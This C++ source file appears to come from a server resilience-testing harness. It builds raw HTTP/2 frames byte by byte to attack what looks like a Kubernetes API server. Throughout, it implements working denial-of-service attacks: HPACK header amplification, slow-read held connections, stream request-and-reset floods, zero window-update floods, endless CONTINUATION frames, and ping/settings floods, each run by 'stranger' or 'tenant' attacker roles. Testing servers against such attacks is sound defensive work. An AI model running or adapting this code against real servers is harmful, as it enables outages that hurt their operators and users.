// Attacks by frames of HTTP/2, byte by byte: what a library would not send.
#include <functional>
#include <memory>
#include <string>
#include <string_view>
#include <vector>

#include "asks.h"
#include "cases.h"

namespace muster::attack {
namespace {

constexpr int kStreams = 100;  // of a connection

// A frame; its length is that of the payload.
std::string frame(int type, int flags, int stream, std::string_view payload) {
  const auto byte = [](std::size_t value) { return static_cast<char>(value & 0xffU); };
  const std::size_t size = payload.size();
  const auto id = static_cast<std::size_t>(stream);
  std::string out = {byte(size >> 16U),       byte(size >> 8U),         byte(size),
                     static_cast<char>(type), static_cast<char>(flags), byte(id >> 24U),
                     byte(id >> 16U),         byte(id >> 8U),           byte(id)};
  return out.append(payload);
}
enum Type { Headers = 1, Reset = 3, Settings = 4, Ping = 6, Window = 8, Continuation = 9 };
constexpr int kEndStream = 1;
constexpr int kEndHeaders = 4;

std::string number(std::size_t value, unsigned bits, unsigned first) {
  const std::size_t most = (std::size_t{1} << bits) - 1;
  if (value < most) return {static_cast<char>(first | value)};
  std::string out = {static_cast<char>(first | most)};
  for (value -= most; value >= 128; value /= 128) out += static_cast<char>(value % 128 + 128);
  return out + static_cast<char>(value);
}
// A header in full; `kept` ones go into the table that both sides have.
std::string header(std::string_view name, std::string_view value, bool kept = false) {
  std::string out = {kept ? '\x40' : '\0'};
  out += number(name.size(), 7, 0);
  out += name;
  out += number(value.size(), 7, 0);
  return out.append(value);
}
constexpr std::string_view kNewestKept = "\xbe";  // the header that was kept last, in one byte

std::string get(std::string_view path) {
  return header(":method", "GET") + header(":scheme", "https") + header(":path", path) +
         header(":authority", "x");
}
// Headers of any length, in as many frames as they need.
std::string ask(int stream, std::string_view block) {
  constexpr std::size_t kFrame = 16'384;
  std::string out;
  for (bool first = true; first || !block.empty(); first = false) {
    const std::string_view part = block.substr(0, kFrame);
    block.remove_prefix(part.size());
    out += frame(first ? Headers : Continuation,
                 (first ? kEndStream : 0) | (block.empty() ? kEndHeaders : 0), stream, part);
  }
  return out;
}

// What a client says first; nobody may send it any body then.
std::string greeting() {
  constexpr std::string_view kNoWindow("\0\4\0\0\0\0", 6);
  return std::string("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n") + frame(Settings, 0, 0, kNoWindow);
}

using Frames = std::function<std::string(int number)>;

// Connections that say `first` and are then held, nothing read.
std::function<void(const Cast&, Run&)> held(Who (*who)(const Cast&), int connections,
                                            const std::string& first) {
  return [=](const Cast& cast, Run& run) {
    const Who attacker = who(cast);
    std::vector<std::unique_ptr<Wire>> wires;
    while (!run.over()) {
      if (wires.size() >= static_cast<std::size_t>(connections)) {
        pause_ms(10);
        continue;
      }
      wires.push_back(std::make_unique<Wire>(
          attacker.server,
          Wire::Options{.client = attacker.credential, .http2 = true, .receive_buffer = 4096}));
      wires.back()->write(first);
      run.sent(first.size());
    }
  };
}

// Frames without end, from the beginning whenever the server has had enough.
std::function<void(const Cast&, Run&)> flood(Who (*who)(const Cast&), const Frames& frames) {
  return [=](const Cast& cast, Run& run) {
    const Who attacker = who(cast);
    while (!run.over()) {
      Wire wire(attacker.server, {.client = attacker.credential, .http2 = true});
      bool open = wire.write(greeting());
      for (int i = 0; open && !run.over(); ++i) {
        std::string block;
        for (int k = 0; k < 100; ++k) block += frames(100 * i + k);
        open = wire.write(block);
        if (open) run.sent(block.size());
      }
      run.answered(0, 0);
    }
  };
}

// A hundred requests whose headers fill what a head may have: one is sent, the others name it.
std::string repeated_headers() {
  std::string again;
  for (int i = 0; i < 15; ++i) again += kNewestKept;
  std::string out = greeting();
  for (int i = 0; i < kStreams; ++i)
    out +=
        ask(1 + 2 * i, get("/version") +
                           (i == 0 ? header("accept", std::string(3'900, 'a'), true) : "") + again);
  return out;
}

// A hundred documents of half a megabyte and more.
std::string documents() {
  std::string out = greeting();
  for (int i = 0; i < kStreams; ++i) out += ask(1 + 2 * i, get("/openapi/v2?pretty=true"));
  return out;
}

// A hundred watches, each with a selector as long as a head may be.
std::string watches_with_long_selectors() {
  std::string values = "a";
  while (values.size() < 60'000) values += "," + std::to_string(values.size());
  const std::string watch = kMaps + "?watch=1&labelSelector=x+in+(" + values + ")";
  std::string out = greeting();
  for (int i = 0; i < kStreams; ++i) out += ask(1 + 2 * i, get(watch));
  return out;
}

Frames then(const std::string& path, int type, std::string_view payload) {
  return [=, payload = std::string(payload)](int i) {
    return ask(1 + 2 * i, get(path)) + frame(type, 0, 1 + 2 * i, payload);
  };
}

}  // namespace

std::vector<Case> http2_cases() {
  constexpr std::string_view kCancel("\0\0\0\x8", 4);
  constexpr std::string_view kNothing("\0\0\0\0", 4);
  return {{.name = "HTTP/2 headers that repeat, unread, 1,000 connections",
           .who = "stranger",
           .threads = 4,
           .attack = held(stranger, 250, repeated_headers())},
          {.name = "HTTP/2 the same, known",
           .who = "nobody",
           .threads = 4,
           .attack = held(nobody, 250, repeated_headers())},
          {.name = "HTTP/2 documents, unread, 50 connections",
           .who = "nobody",
           .attack = held(nobody, 50, documents())},
          {.name = "HTTP/2 watches with long selectors",
           .who = "tenant",
           .threads = 2,
           .attack = held(tenant, 40, watches_with_long_selectors())},
          {.name = "HTTP/2 requests and resets",
           .who = "stranger",
           .threads = 2,
           .attack = flood(stranger, then("/version", Reset, kCancel))},
          {.name = "HTTP/2 lists and resets",
           .who = "tenant",
           .threads = 2,
           .attack = flood(tenant, then(kMaps, Reset, kCancel))},
          {.name = "HTTP/2 requests and windows of nothing, which the server resets",
           .who = "stranger",
           .threads = 2,
           .attack = flood(stranger, then("/version", Window, kNothing))},
          {.name = "HTTP/2 the same, lists",
           .who = "tenant",
           .threads = 2,
           .attack = flood(tenant, then(kMaps + "?labelSelector=" + std::string(10'000, 'a'),
                                        Window, kNothing))},
          {.name = "HTTP/2 headers without end",
           .who = "stranger",
           .threads = 2,
           .attack = flood(stranger,
                           [](int i) {
                             return i == 0
                                        ? frame(Headers, kEndStream, 1, get("/version"))
                                        : frame(Continuation, 0, 1, i % 2 == 0 ? "" : kNewestKept);
                           })},
          {.name = "HTTP/2 pings and settings",
           .who = "stranger",
           .threads = 2,
           .attack = flood(stranger, [](int i) {
             return i % 2 == 0 ? frame(Ping, 0, 0, "01234567") : frame(Settings, 0, 0, "");
           })}};
}

}  // namespace muster::attack
